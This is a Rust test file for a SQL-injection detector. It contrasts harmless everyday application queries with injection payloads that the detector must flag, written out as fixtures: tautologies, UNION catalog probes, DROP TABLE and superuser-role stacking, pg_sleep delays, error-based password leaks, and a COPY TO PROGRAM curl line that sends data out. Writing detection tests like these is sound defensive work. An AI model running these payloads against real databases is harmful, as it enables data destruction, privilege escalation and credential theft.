//! Signs of SQL injection: attacks as published tools and tutorials try them,
//! and what applications send every day.

use kumki_model::Sign;

use crate::support::{gives, harmless, spares};

/// Everyday SQL of applications, object-relational mappers and tools.
const EVERYDAY: &[&str] = &[
    // Query builders: conditions to append to, and empty lists.
    "SELECT * FROM orders WHERE 1=1 AND customer_id = 7 AND state = 'open'",
    "SELECT o.id FROM orders o WHERE 1=0",
    "SELECT \"users\".* FROM \"users\" WHERE \"users\".\"team_id\" = 4 AND 1=0",
    "SELECT users.id FROM users WHERE users.id IN (SELECT 1 WHERE 1!=1)",
    "SELECT id FROM items WHERE true AND owner_id = 9",
    "SELECT id FROM items WHERE (owner_id = 9) AND true",
    "SELECT \"app_user\".\"id\" FROM \"app_user\" WHERE (\"app_user\".\"email\" = 'a@b.c' OR \"app_user\".\"login\" = 'a') LIMIT 21",
    "SELECT id FROM t WHERE ($1 = '' OR name = $1) AND ($2 IS NULL OR kind = $2)",
    "SELECT id FROM t WHERE ('x' = '' OR name = 'x')",
    "SELECT a FROM t WHERE flag = true OR other = 'x'",
    "SELECT a FROM t WHERE x = 1 OR y = 1 OR z BETWEEN 1 AND 2",
    "UPDATE jobs SET locked_at = now(), attempts = attempts + 1 WHERE id = 5 AND (locked_at IS NULL OR locked_at < now() - interval '5 minutes')",
    "DELETE FROM sessions WHERE expires_at < now()",
    // Set operations.
    "SELECT 1 UNION SELECT 2 UNION SELECT 3",
    "SELECT id, name FROM a UNION ALL SELECT id, name FROM b",
    "SELECT 0 AS id, 'All' AS name UNION ALL SELECT id, name FROM groups",
    "SELECT 'open' AS state, count(*) FROM a UNION ALL SELECT 'done', count(*) FROM b",
    "SELECT 1 FROM a WHERE x = 1 UNION ALL SELECT 1 FROM b WHERE x = 1",
    "WITH RECURSIVE tree AS (SELECT id, parent FROM nodes WHERE id = 1 UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree t ON n.parent = t.id) SELECT id FROM tree",
    // Comments.
    "-- name: GetAuthor :one\nSELECT id FROM authors WHERE id = $1 LIMIT 1",
    "SELECT id FROM t WHERE a = 1 /*application='shop',controller='cart',action='show'*/",
    "SELECT id FROM t WHERE a = 1 -- fetched for the customer's page",
    "SELECT id FROM t -- see ticket (4)\nWHERE a = 1",
    // Casts, strings, numbers.
    "SELECT (SELECT count(*) FROM orders)::int",
    "SELECT current_setting('app.tenant_id')::int",
    "SELECT current_setting('server_version_num')::int / 10000",
    "SELECT id FROM accounts WHERE tenant = current_setting('app.tenant', true)::bigint",
    "SELECT a FROM t WHERE age > (SELECT value FROM settings WHERE key = 'min_age')::int",
    "SELECT reltuples::bigint FROM pg_class WHERE oid = 'public.t'::regclass",
    "SELECT (SELECT reltuples FROM pg_class WHERE relname = 't')::bigint",
    "SELECT first || ' ' || last FROM people WHERE id = 3",
    "SELECT 'a' || chr(10) || 'b' || chr(10) FROM t WHERE id = 3",
    // More than one statement in a text.
    "BEGIN; UPDATE a SET b = 1 WHERE c = 2; INSERT INTO d VALUES (1); COMMIT",
    "BEGIN; INSERT INTO a VALUES (1); CREATE TABLE b (c int); COMMIT",
    "SET statement_timeout = '5s'; SELECT id FROM t WHERE a = 1",
    "INSERT INTO a VALUES (1); INSERT INTO b VALUES (2)",
    "UPDATE a SET b = 1 WHERE c = 2; SELECT id FROM a WHERE c = 2",
    "SELECT pg_catalog.set_config('search_path', '', false); CREATE TABLE t (a int); CREATE INDEX i ON t (a)",
    // At connect, and tools looking around.
    "SELECT 1",
    "SELECT version()",
    "select pg_catalog.version()",
    "SELECT current_schema(), current_user, current_database()",
    "SELECT c.relname, n.nspname, version() FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
    "SHOW transaction_isolation",
    "SELECT a FROM t LIMIT 0",
    "SELECT id FROM docs WHERE owner = current_user",
    "SELECT pg_is_in_recovery()",
    "SELECT pg_size_pretty(pg_total_relation_size('t'))",
    "SELECT column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' AND table_name = 'users' ORDER BY ordinal_position",
    "SELECT t.oid, t.typname FROM pg_type AS t LEFT JOIN pg_range AS r ON t.oid = r.rngtypid WHERE t.typname IN ('int2', 'int4')",
];

#[test]
fn everyday_sql_is_harmless() {
    harmless(EVERYDAY);
}

#[test]
fn tautologies() {
    gives(
        Sign::Tautology,
        &[
            "SELECT * FROM users WHERE name = 'x' OR 1=1",
            "SELECT * FROM users WHERE name = '' OR '1'='1'",
            "SELECT * FROM users WHERE name = '' OR 'a'='a' AND password = 'x'",
            "SELECT * FROM users WHERE name = 'x' OR true",
            "SELECT * FROM users WHERE name = 'x' OR name = name",
            "SELECT * FROM users WHERE (name = 'x' OR (2 > 1))",
            "SELECT * FROM users WHERE id = 1 OR 2 BETWEEN 1 AND 3",
            "SELECT * FROM users WHERE id = 1 OR 'x' LIKE '%'",
            "SELECT * FROM users WHERE id = 1 AND 1=2",
            "SELECT * FROM users WHERE id = 1 AND 'a'='b'",
            "SELECT * FROM users WHERE id = 1 AND 1=1",
            "SELECT a FROM t JOIN u ON t.x = u.x OR 7=7",
            "SELECT count(*) FROM t GROUP BY a HAVING sum(b) > 3 OR 1=1",
            "DELETE FROM t WHERE id = 3 OR 1=1",
            "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u WHERE b = 2 OR 1=1)",
        ],
    );
    spares(
        Sign::Tautology,
        &[
            "SELECT * FROM users WHERE name = 'x' OR 1=2",
            "SELECT * FROM users WHERE 1=1",
            "SELECT * FROM users WHERE 1=1 OR 1=1",
        ],
    );
}

#[test]
fn unions() {
    gives(
        Sign::UnionProbe,
        &[
            "SELECT name FROM products WHERE id = 1 UNION SELECT NULL",
            "SELECT name, price FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL",
            "SELECT name, price FROM products UNION SELECT 1, 'x'",
            "SELECT name, price, x FROM products UNION SELECT 1, 2, 3 FROM users",
            "SELECT name, price FROM products UNION SELECT 1, version()",
            "SELECT name FROM products UNION SELECT NULL::text ORDER BY 1",
            "SELECT name, b FROM products WHERE a = '' UNION SELECT current_user, NULL -- '",
        ],
    );
    gives(
        Sign::UnionCatalog,
        &[
            "SELECT name FROM products UNION SELECT table_name FROM information_schema.tables",
            "SELECT name FROM products WHERE id = 1 UNION ALL SELECT usename FROM pg_user",
            "SELECT name FROM products UNION SELECT relname FROM (SELECT relname FROM pg_catalog.pg_class) x",
        ],
    );
    spares(
        Sign::UnionCatalog,
        &[
            "SELECT relname FROM pg_class UNION SELECT table_name FROM information_schema.tables",
            "SELECT name FROM products WHERE x IN (SELECT relname FROM pg_class)",
            "SELECT relname FROM pg_class UNION SELECT name FROM own_tables",
        ],
    );
}

#[test]
fn stacked_statements() {
    gives(
        Sign::Stacked,
        &[
            "SELECT name FROM users WHERE id = 1; DROP TABLE users",
            "SELECT name FROM users WHERE id = 1; DELETE FROM users WHERE true",
            "SELECT 1; COPY users TO PROGRAM 'curl -d @- http://x'",
            "INSERT INTO a VALUES (1); CREATE ROLE x SUPERUSER",
            "UPDATE a SET b = 1 WHERE c = 2; GRANT ALL ON a TO PUBLIC",
            "SELECT 1; DO $$ BEGIN END $$",
            "DELETE FROM a WHERE b = 1; TRUNCATE c",
        ],
    );
}

#[test]
fn cuts() {
    gives(
        Sign::CommentCut,
        &[
            "SELECT * FROM users WHERE name = 'admin' --' AND password = 'x'",
            "SELECT * FROM users WHERE id = 1 OR 1=1 -- -",
            "SELECT * FROM users WHERE name = 'x''",
            "SELECT * FROM users WHERE id = 1 /*",
        ],
    );
}

#[test]
fn delays_probes_and_leaks() {
    gives(
        Sign::TimeDelay,
        &[
            "SELECT pg_sleep(5)",
            "SELECT * FROM t WHERE id = 1 AND 1 = (SELECT 1 FROM pg_catalog.pg_sleep(5))",
            "SELECT CASE WHEN (SELECT true) THEN pg_sleep_for('5 s') END",
            "DO $$ BEGIN PERFORM pg_sleep_until('tomorrow'); END $$",
        ],
    );
    spares(
        Sign::TimeDelay,
        &[
            "SELECT sleep(5)",
            "SELECT app.pg_sleep(1)",
            "SELECT 'pg_sleep(5)'",
        ],
    );
    gives(
        Sign::ErrorProbe,
        &[
            "SELECT * FROM t WHERE id = 1 AND 1 = CAST((SELECT version()) AS int)",
            "SELECT CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)",
            "SELECT * FROM t WHERE a = '' AND 1 = (SELECT password FROM users LIMIT 1)::int",
            "SELECT (chr(113)||chr(118)||(SELECT 1)::text)::numeric",
            "SELECT version()::int",
            "SELECT CAST(current_user AS int)",
            "SELECT CAST((SELECT string_agg(usename, ',') FROM pg_user) AS numeric)",
        ],
    );
    gives(
        Sign::CharBuild,
        &[
            "SELECT chr(97)||chr(98)||chr(99)",
            "SELECT a FROM t WHERE b = concat(chr(1), chr(2), chr(3))",
        ],
    );
    gives(
        Sign::ServerProbe,
        &[
            "SELECT inet_server_addr(), inet_server_port()",
            "SELECT current_setting('data_directory')",
            "SHOW hba_file",
            "SELECT name, version() FROM users",
            "SELECT name FROM users UNION SELECT version()",
        ],
    );
    spares(
        Sign::ServerProbe,
        &[
            "SHOW server_version",
            "SELECT current_setting('search_path')",
            "SELECT current_database()",
        ],
    );
}
